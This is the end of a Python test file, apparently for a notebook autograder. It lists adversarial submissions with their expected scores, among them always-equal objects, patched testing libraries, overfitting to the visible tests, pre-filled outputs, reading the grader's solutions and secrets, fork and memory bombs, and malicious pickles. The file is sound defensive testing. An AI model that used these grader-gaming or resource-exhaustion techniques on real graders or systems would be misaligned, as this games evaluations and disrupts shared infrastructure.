# --- 18. pre-filled outputs --------------------------------------------------------------------


def prefilled_outputs(nb):
    for count, cell in enumerate(c for c in nb.cells if c.cell_type == "code"):
        cell.execution_count = count + 1
        cell.outputs = [
            nbformat.v4.new_output("stream", name="stdout", text="PASSED (3/3)\n"),
            nbformat.v4.new_output("execute_result", data={"text/plain": "3"},
                                   execution_count=count + 1)]
        cell.metadata["nbgrader_autograded"] = {"score": 3}


# --- 19. malformed files -----------------------------------------------------------------------


def raw_bytes(content: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(content)


def raw_json(mutate: Callable[[dict], None]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        data = json.loads(nbformat.writes(build_notebook(GOOD)))
        mutate(data)
        path.write_text(json.dumps(data))

    return write


def write_v3(path: Path) -> None:
    nb = nbformat.convert(build_notebook(GOOD), 3)
    path.write_text(nbformat.writes(nb, version=3))


def write_oversized(path: Path) -> None:
    from autograder.single import MAX_NOTEBOOK_BYTES

    with open(path, "wb") as handle:  # sparse: no time or disk spent
        handle.write(b'{"cells": [], ')
        handle.truncate(MAX_NOTEBOOK_BYTES + 1)


def _set(key, value):
    def mutate(data: dict) -> None:
        data[key] = value
    return mutate


def _first_cell(**fields):
    def mutate(data: dict) -> None:
        data["cells"][1].update(fields)
    return mutate


# --- the corpus --------------------------------------------------------------------------------

LOOPS_OK, MATMUL_OK, PAIRWISE_OK = (REFERENCE["matmul_loops"], REFERENCE["matmul"],
                                    REFERENCE["pairwise_sq_dists"])
SLOW = options(call=3)  # endless calls: a short call timeout keeps the corpus fast

ATTACKS = [
    CONTROL,
    # 1
    Attack("always_equal_object", (1,), 0.0, {**BLANK, "matmul_loops": ALWAYS_EQUAL,
           "matmul": "def matmul(A, B):\n    return Anything()\n",
           "pairwise_sq_dists": "def pairwise_sq_dists(X, Y):\n    return Anything()\n"}),
    Attack("float_subclasses", (1,), 0.0, {**BLANK, "matmul_loops": FLOAT_SUBCLASS,
           "matmul": "def matmul(A, B):\n    return Close64(0.0)\n",
           "pairwise_sq_dists": "def pairwise_sq_dists(X, Y):\n    return Close(0.0)\n"}),
    Attack("ndarray_subclass", (1, 16), 0.0, {**BLANK, "matmul_loops": NDARRAY_SUBCLASS,
           "matmul": "def matmul(A, B):\n    return matmul_loops(A, B)\n"}),
    Attack("exception_group_is_not_value_error", (1,), 9.5,
           {**GOOD, "matmul_loops": EXCEPTION_GROUP},
           why="all correct, but bad shapes raise an ExceptionGroup: the half point of part "
               "(a) for refusing bad shapes is lost"),
    Attack("loop_check_fooled_by_rebinding", (1,), 9.0,
           {**GOOD, "matmul": REBIND_MATMUL},
           why="matmul is right but is matmul_loops: the no-loops point is lost"),
    Attack("loop_check_fooled_by_decorator_and_helper", (1,), 8.0,
           {**GOOD, "matmul": DECORATED_MATMUL, "pairwise_sq_dists": HELPER_PAIRWISE},
           why="both right, both loop (one through a decorator, one in a helper)"),
    # 26
    Attack("loops_in_disguise", (26,), 7.0, {**GOOD, **DISGUISED_LOOPS},
           why="all right, but map, np.vectorize and np.dot where loops are asked: the loop "
               "requirement's point in each of (a), (b) and (c) is lost"),
    Attack("loop_measure_switched_off", (26,), 7.0, {**GOOD, "matmul": MEASURE_OFF},
           why="right, but it loops with the trace and profile functions switched off: seen "
               "at run time, and code that names the measure voids every loop requirement of "
               "the notebook (a point each of (a), (b) and (c))"),
    # 2
    Attack("patch_numpy_math_builtins", (2,), 0.0, inserts=(("imports", PATCH_NUMPY),)),
    Attack("patch_pytest_and_grader_helpers", (2,), 0.0, inserts=(("imports", PATCH_GRADER),)),
    # 3
    Attack("ipython_hides_errors", (3,), 0.0, inserts=(("imports", IPYTHON_HIDE),)),
    oracle("ipython_hooks_capture_test_cells", (3,), IPYTHON_CAPTURE),
    # 4
    Attack("overfit_visible_test_inputs", (4,), 0.0, dict(OVERFIT)),
    oracle("detect_grading_and_cheat", (4,), DETECT_GRADING),
    # 5
    Attack("exits_in_notebook_body", (5,), 10.0, dict(GOOD),
           tuple(("imports", cell) for cell in EXITS_IN_BODY),
           why="IPython reports SystemExit in a cell like any error; the notebook goes on"),
    Attack("sys_exit_in_one_function", (5,), 7.0, {**GOOD, "matmul_loops": SYS_EXIT_LOOPS}),
    Attack("os_exit_in_one_function", (5,), 7.0, {**GOOD, "matmul_loops": OS_EXIT_LOOPS},
           slow=True),
    Attack("os_exit_at_import", (5,), 0.0, dict(GOOD), (("", "import os\nos._exit(0)\n"),),
           why="the notebook never finishes: nothing is graded"),
    Attack("signals_ignored_atexit_busy_loop", (5, 10), 7.0, {**GOOD, "matmul_loops": BUSY_LOOPS},
           (("imports", SIGNALS_ATEXIT),), options=SLOW, slow=True),
    Attack("keyboard_interrupt_and_del", (5,), 7.0, {**GOOD, "matmul_loops": DEL_INTERRUPT}),
    # 6
    Attack("fake_results_printed", (6,), 0.0, {**BLANK, "matmul_loops": FAKE_RESULTS_CALLS},
           (("imports", FAKE_RESULTS), ("", FAKE_RESULTS))),
    # 7
    oracle("write_graders_gradebook_results", (7,), WRITE_HOST),
    oracle("race_the_results_file", (7, 12), RACE_RESULTS),
    # 8
    oracle("caller_memory_frames_gc_proc", (8,), CALLER_MEMORY),
    oracle("environment_secrets", (8,), ENVIRON_SECRETS),
    Attack("forged_protocol_replies", (8, 6), 0.0, inserts=(("imports", FORGED_REPLIES),)),
    Attack("garbage_frame_in_one_function", (8,), 7.0, {**GOOD, "matmul_loops": GARBAGE_FRAME},
           slow=True),
    Attack("flood_of_forged_cell_frames", (13, 8), 7.0, dict(GOOD), (("", FRAME_FLOOD),),
           why="the grader keeps the notebook's outputs within bounds, whatever it sends; code "
               "that reaches the runner (gc.get_objects) could fake the loop counts, so the "
               "loop requirements are void: a point each of (a), (b) and (c)"),
    # 9
    oracle("read_graders_and_solution", (9,), READ_GRADERS),
    # 10
    Attack("sleep_forever_in_one_function", (10,), 7.0, {**GOOD, "matmul_loops": SLEEP_LOOPS},
           options=SLOW, slow=True, why="the other functions keep their points"),
    Attack("deadlock_in_one_function", (10,), 6.0,
           {**GOOD, "pairwise_sq_dists": DEADLOCK_PAIRWISE}, options=SLOW, slow=True),
    Attack("endless_loop_in_notebook_body", (10,), 0.0, dict(GOOD), (("", ENDLESS_BODY),),
           options=options(notebook=8), slow=True),
    # 11
    Attack("memory_bomb_at_import", (11,), 0.0, dict(GOOD), (("", MEMORY_BODY),)),
    Attack("memory_bomb_in_one_function", (11,), 6.0,
           {**GOOD, "pairwise_sq_dists": MEMORY_PAIRWISE}),
    # 12
    Attack("fork_bomb", (12,), 10.0, dict(GOOD), (("imports", FORK_BOMB),)),
    Attack("thread_bomb", (12,), 10.0, dict(GOOD), (("imports", THREAD_BOMB),)),
    Attack("daemons_that_would_outlive_the_run", (12,), 10.0, dict(GOOD),
           (("imports", DAEMONS),)),
    # 13
    Attack("stdout_stderr_flood", (13,), 10.0, {**GOOD, "matmul": STDOUT_FLOOD_CALLS},
           (("imports", STDOUT_FLOOD),)),
    Attack("display_flood", (13,), 10.0, dict(GOOD), (("imports", DISPLAY_FLOOD),)),
    Attack("huge_files_in_scratch", (13,), 10.0, dict(GOOD), (("imports", BIG_FILES),),
           options=options(memory_mb=1024), why="tmpfs pages count as memory: room for them"),
    # 14
    oracle("network_host_port_dns", (14,), NETWORK),
    # 15
    Attack("malicious_pickles", (15,), 0.0, {**BLANK, "matmul_loops": PICKLES,
           "matmul": PICKLES_MORE}),
    # 16
    Attack("huge_and_deep_return_values", (16,), 0.0, dict(HUGE_RETURNS)),
    Attack("generators_and_proxies", (16,), 0.0, dict(PROXIES)),
    Attack("object_matrix_masked_arrays", (16,), 0.0, dict(ODD_ARRAYS)),
    # 17
    Attack("points_set_to_1000", (17,), 10.0, dict(GOOD), mutate=points_1000,
           why="the instructor's points count: 10 of 10, not 3000"),
    Attack("grade_ids_swapped", (17,), 7.0, {**GOOD, "matmul": STUB["matmul"]},
           mutate=ids_swapped),
    Attack("test_cells_deleted", (17,), 0.0, mutate=deleted_tests),
    Attack("test_cell_copy_after_patching_cell", (17,), 7.0, {**GOOD, "matmul": STUB["matmul"]},
           mutate=duplicated_after_patch),
    Attack("cell_types_changed", (17,), 10.0, dict(GOOD), mutate=cell_types_changed),
    Attack("locked_cell_and_kernelspec_edited", (17, 2), 0.0, mutate=locked_and_kernelspec),
    Attack("bonus_grade_cells_added", (17,), 10.0, dict(GOOD), mutate=bonus_cells),
    # 18
    Attack("prefilled_outputs_and_counts", (18,), 0.0, mutate=prefilled_outputs),
    # 19
    Attack("invalid_json", (19,), None, raw=raw_bytes(b'{"cells": [ {"oops"')),
    Attack("binary_renamed_ipynb", (19,), None,
           raw=raw_bytes(b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 40)),
    Attack("empty_file", (19,), None, raw=raw_bytes(b"")),
    Attack("future_nbformat", (19,), None, raw=raw_json(_set("nbformat", 99))),
    Attack("cells_not_a_list", (19,), None, raw=raw_json(_set("cells", {"0": "x"}))),
    Attack("cell_source_not_text", (19,), None, raw=raw_json(_first_cell(source=12))),
    Attack("over_the_size_limit", (19,), None, raw=write_oversized),
    Attack("nbformat_3_is_upgraded", (19,), 10.0, raw=write_v3,
           why="a valid older notebook is read as nbformat 4 and graded as usual"),
]


def covered_threats() -> dict[int, list[str]]:
    found: dict[int, list[str]] = {}
    for attack in ATTACKS:
        for threat in attack.threats:
            found.setdefault(threat, []).append(attack.name)
    return found
